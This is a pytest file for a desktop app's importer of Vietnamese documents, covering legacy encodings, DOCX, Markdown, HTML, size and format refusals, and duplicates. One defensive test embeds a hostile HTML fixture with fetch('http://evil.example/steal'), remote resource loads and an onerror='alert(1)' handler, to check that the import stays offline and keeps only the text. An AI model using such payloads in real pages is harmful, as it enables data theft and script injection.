"""Importing the user's own documents: formats, encodings (incl. TCVN3 and VNI), refusals, duplicates.

Every fixture is written by the test itself; the legacy encodings are produced with the small
tables below, written independently of the app's own tables.
"""

import socket
import unicodedata
import zipfile
from xml.sax.saxutils import escape

import pytest

from desktop.core.documents import (
    DocumentError,
    collect_paths,
    import_documents,
    read_document,
)
from desktop.core.documents.encodings import decode_text, is_syllable

TEXT = ("Hà Nội, Việt Nam: phụ nữ và hòa bình.\n\n"
        "Đại sứ Lê Thị Tuyết Mai nói về bình đẳng giới ở Liên hợp quốc; những người tham dự "
        "được cảm ơn.")

# TCVN3 (ABC): one byte for each precomposed letter used in TEXT
TCVN3 = {"à": 0xB5, "ộ": 0xE9, "ệ": 0xD6, "ụ": 0xF4, "ữ": 0xF7, "ò": 0xDF, "ì": 0xD7,
         "Đ": 0xA7, "ạ": 0xB9, "ứ": 0xF8, "ê": 0xAA, "ị": 0xDE, "ế": 0xD5, "ó": 0xE3,
         "ề": 0xD2, "đ": 0xAE, "ẳ": 0xBC, "ớ": 0xED, "ở": 0xEB, "ợ": 0xEE, "ố": 0xE8,
         "ư": 0xAD, "ơ": 0xAC, "ả": 0xB6, "ự": 0xF9, "\u1edd": 0xEA, "á": 0xB8}
# VNI-Windows: base letter + mark byte, or one byte
VNI = {"à": b"a\xf8", "ộ": b"o\xe4", "ệ": b"e\xe4", "ụ": b"u\xef", "ữ": b"\xf6\xf5",
       "ò": b"o\xf8", "ì": b"\xec", "Đ": b"\xd1", "ạ": b"a\xef", "ứ": b"\xf6\xf9",
       "ê": b"e\xe2", "ị": b"\xf2", "ế": b"e\xe1", "ó": b"o\xf9", "ề": b"e\xe0", "đ": b"\xf1",
       "ẳ": b"a\xfa", "ớ": b"\xf4\xf9", "ở": b"\xf4\xfb", "ợ": b"\xf4\xef", "ố": b"o\xe1",
       "ư": b"\xf6", "ơ": b"\xf4", "ả": b"a\xfb", "ự": b"\xf6\xef", "\u1edd": b"\xf4\xf8",
       "á": b"a\xf9"}


def to_tcvn3(text):
    return bytes(TCVN3[ch] if ch in TCVN3 else ord(ch) for ch in text)


def to_vni(text):
    return b"".join(VNI.get(ch) or ch.encode("ascii") for ch in text)


def to_cp1258(text):
    """Windows-1258 writes tones as combining marks after a (possibly precomposed) base."""
    out = b""
    for ch in text:
        try:
            out += ch.encode("cp1258")
        except UnicodeEncodeError:
            parts = unicodedata.normalize("NFD", ch)
            tone = [c for c in parts if c in "\u0300\u0301\u0303\u0309\u0323"]
            base = unicodedata.normalize("NFC", "".join(c for c in parts if c not in tone))
            out += base.encode("cp1258") + "".join(tone).encode("cp1258")
    return out


def test_the_test_tables_cover_the_sample():
    assert to_tcvn3(TEXT).isascii() is False
    to_vni(TEXT)  # no KeyError/UnicodeEncodeError: every letter is in the table


@pytest.mark.parametrize("encoding, encode", [
    ("utf-8", lambda t: t.encode("utf-8")),
    ("utf-8-sig", lambda t: t.encode("utf-8-sig")),
    ("utf-16", lambda t: t.encode("utf-16")),
    ("utf-16", lambda t: t.encode("utf-16-le")),  # no BOM
    ("utf-16", lambda t: t.encode("utf-16-be")),  # no BOM
    ("windows-1258", to_cp1258),
    ("tcvn3", to_tcvn3),
    ("vni", to_vni),
    ("utf-8", lambda t: unicodedata.normalize("NFD", t).encode("utf-8")),
])
def test_text_files_in_every_encoding_read_as_nfc(tmp_path, encoding, encode):
    path = tmp_path / "bai.txt"
    path.write_bytes(encode(TEXT))
    doc = read_document(path)
    assert doc.body == TEXT
    assert doc.encoding == encoding
    assert doc.title == "Hà Nội, Việt Nam: phụ nữ và hòa bình."


def test_crlf_line_endings_become_newlines(tmp_path):
    path = tmp_path / "crlf.txt"
    path.write_bytes(TEXT.replace("\n", "\r\n").encode("utf-8"))
    assert read_document(path).body == TEXT


def test_vietnamese_syllables_are_recognised():
    for word in ("người", "nghiêng", "Việt", "khuyến", "quốc", "gì", "hoà", "hòa", "thuở"):
        assert is_syllable(word), word
    for word in ("Vieät", "Hµ", "ph¹m", "xyz", "ñaïi", "Ph¸i"):
        assert not is_syllable(word), word


def test_markdown_title_and_text(tmp_path):
    path = tmp_path / "ghi-chu.md"
    path.write_text("# Phụ nữ và **hòa bình**\n\nMột [liên kết](http://example.com/x) và "
                    "![ảnh](http://example.com/a.png) *nhấn mạnh*.\n", encoding="utf-8")
    doc = read_document(path)
    assert doc.title == "Phụ nữ và hòa bình"
    assert doc.body == "Phụ nữ và hòa bình\n\nMột liên kết và nhấn mạnh."
    assert "http" not in doc.body


def test_hostile_html_imports_as_text_only_and_fetches_nothing(tmp_path, monkeypatch):
    def no_network(*args, **kwargs):
        raise AssertionError("the import tried to open a connection")

    monkeypatch.setattr(socket.socket, "connect", no_network)
    monkeypatch.setattr(socket, "create_connection", no_network)
    path = tmp_path / "trang.html"
    path.write_text(
        "<!doctype html><html><head><title>Tin &amp; bài</title>"
        "<script>fetch('http://evil.example/steal')</script>"
        "<style>body { background: url(http://evil.example/bg.png) }</style>"
        "<link rel=stylesheet href='http://evil.example/s.css'></head><body>"
        "<iframe src='http://evil.example/frame'>khung ẩn</iframe>"
        "<img src='http://evil.example/pixel.gif' onerror='alert(1)' alt='ảnh'>"
        "<h1>Phụ nữ</h1><p>Hòa   bình\nvà <b>an ninh</b>.</p>"
        "<script type=module>import 'http://evil.example/m.js'</script>"
        "<p>Đại sứ&nbsp;phát biểu.</p><object data='x.swf'>flash</object></body></html>",
        encoding="utf-8")
    doc = read_document(path)
    # the main text is the article's own; its headline is the title
    assert doc.title == "Phụ nữ"
    assert doc.body == "Hòa bình và an ninh.\n\nĐại sứ phát biểu."
    for gone in ("evil", "http", "fetch", "alert", "background", "khung", "flash", "ảnh"):
        assert gone not in doc.body
    # a page too big for main-text extraction keeps all its readable text, and nothing else
    from desktop.core.documents.formats import _parse_html, _walk_text

    title, everything = _walk_text(_parse_html(path.read_text(encoding="utf-8")))
    assert title == "Tin & bài"
    assert everything == "Phụ nữ\n\nHòa bình và an ninh.\n\nĐại sứ phát biểu."
    for gone in ("evil", "http", "fetch", "alert", "background", "khung", "flash", "ảnh"):
        assert gone not in everything


def make_docx(path, paragraphs, *, title=""):
    body = "".join(f"<w:p><w:r><w:t xml:space='preserve'>{escape(p)}</w:t></w:r></w:p>"
                   for p in paragraphs)
    with zipfile.ZipFile(path, "w") as archive:
        archive.writestr("[Content_Types].xml", "<Types xmlns='http://schemas.openxmlformats.org/"
                         "package/2006/content-types'/>")
        archive.writestr("word/document.xml",
                         "<w:document xmlns:w='http://schemas.openxmlformats.org/wordprocessingml"
                         f"/2006/main'><w:body>{body}</w:body></w:document>")
        if title:
            archive.writestr("docProps/core.xml",
                             "<cp:coreProperties xmlns:cp='http://schemas.openxmlformats.org/"
                             "package/2006/metadata/core-properties' xmlns:dc='http://purl.org/"
                             f"dc/elements/1.1/'><dc:title>{escape(title)}</dc:title>"
                             "</cp:coreProperties>")


def test_docx_paragraphs_and_title(tmp_path):
    path = tmp_path / "bao-cao.docx"
    make_docx(path, TEXT.split("\n\n"), title="Báo cáo hòa bình")
    doc = read_document(path)
    assert (doc.title, doc.body, doc.encoding) == ("Báo cáo hòa bình", TEXT, "docx")


def test_docx_typed_in_a_tcvn3_font_is_converted(tmp_path):
    """Old Word files keep .VnTime text as the Windows-1252 letters of the TCVN3 bytes."""
    path = tmp_path / "cu.docx"
    make_docx(path, [to_tcvn3(p).decode("cp1252") for p in TEXT.split("\n\n")])
    assert read_document(path).body == TEXT


def test_docx_typed_in_a_vni_font_is_converted(tmp_path):
    path = tmp_path / "vni.docx"
    make_docx(path, [to_vni(p).decode("cp1252") for p in TEXT.split("\n\n")])
    assert read_document(path).body == TEXT


def test_a_damaged_docx_gets_a_clear_message(tmp_path):
    path = tmp_path / "hong.docx"
    path.write_bytes(b"PK\x03\x04 not really a zip")
    with pytest.raises(DocumentError, match="damaged"):
        read_document(path)


@pytest.mark.parametrize("name, content, message", [
    ("empty.txt", b"", "empty"),
    ("binary.txt", bytes(range(256)) * 40, "binary"),
    ("report.pdf", b"%PDF-1.4\n...", "not supported"),
    ("scan.txt", b"%PDF-1.4\n" + bytes(range(256)), "PDF"),
    ("picture.png", b"\x89PNG\r\n\x1a\n" + bytes(100), "not supported"),
])
def test_files_it_cannot_read_get_a_clear_message(tmp_path, name, content, message):
    path = tmp_path / name
    path.write_bytes(content)
    with pytest.raises(DocumentError, match=message):
        read_document(path)


def test_a_50_mb_file_is_refused_without_being_read(tmp_path):
    path = tmp_path / "huge.txt"
    with path.open("wb") as f:
        f.truncate(50 * 1024 * 1024)  # sparse: costs no disk and no time
    with pytest.raises(DocumentError, match=r"too large \(50\.0 MB; the limit is 20\.0 MB\)"):
        read_document(path)


def test_missing_file_and_folder_messages(tmp_path):
    with pytest.raises(DocumentError, match="no such file"):
        read_document(tmp_path / "nope.txt")


def test_import_adds_user_articles_and_recognises_duplicates(store, tmp_path):
    folder = tmp_path / "docs"
    (folder / "sub").mkdir(parents=True)
    (folder / "a.txt").write_text(TEXT, encoding="utf-8")
    (folder / "sub" / "same-in-nfd.md").write_text(unicodedata.normalize("NFD", TEXT) + "\n",
                                                   encoding="utf-8")
    (folder / "b.txt").write_bytes(to_vni("Một bài khác về phụ nữ."))
    (folder / "ghi.png").write_bytes(b"\x89PNG")
    (folder / ".hidden.txt").write_text("ẩn", encoding="utf-8")
    outcomes, changes = import_documents(store, [folder])
    by_name = {o.path.name: o for o in outcomes}
    assert set(by_name) == {"a.txt", "same-in-nfd.md", "b.txt", "ghi.png"}
    assert by_name["a.txt"].status == "added" and by_name["b.txt"].status == "added"
    assert by_name["same-in-nfd.md"].status == "duplicate"
    assert "already in the library" in by_name["same-in-nfd.md"].message
    assert by_name["ghi.png"].status == "skipped"
    assert changes.articles == {by_name["a.txt"].article_id, by_name["b.txt"].article_id}
    article = store.article(by_name["b.txt"].article_id)
    assert (article.origin, article.body, article.source) == ("user", "Một bài khác về phụ nữ.",
                                                             "b.txt")
    again, changes = import_documents(store, [folder / "a.txt"])
    assert [o.status for o in again] == ["duplicate"] and not changes
    assert [h.article_id for h in store.search("mot bai khac")] == [article.id]


def test_collect_paths_keeps_explicit_files_and_walks_folders(tmp_path):
    (tmp_path / "x.txt").write_text("x", encoding="utf-8")
    (tmp_path / "y.docx").write_bytes(b"")
    (tmp_path / "z.bin").write_bytes(b"")
    files, skipped = collect_paths([tmp_path, tmp_path / "explicit.weird"])
    assert [p.name for p in files] == ["x.txt", "y.docx", "explicit.weird"]
    assert [p.name for p in skipped] == ["z.bin"]


def test_decode_prefers_utf8_for_plain_ascii():
    assert decode_text(b"Ha Noi") == ("Ha Noi", "utf-8")
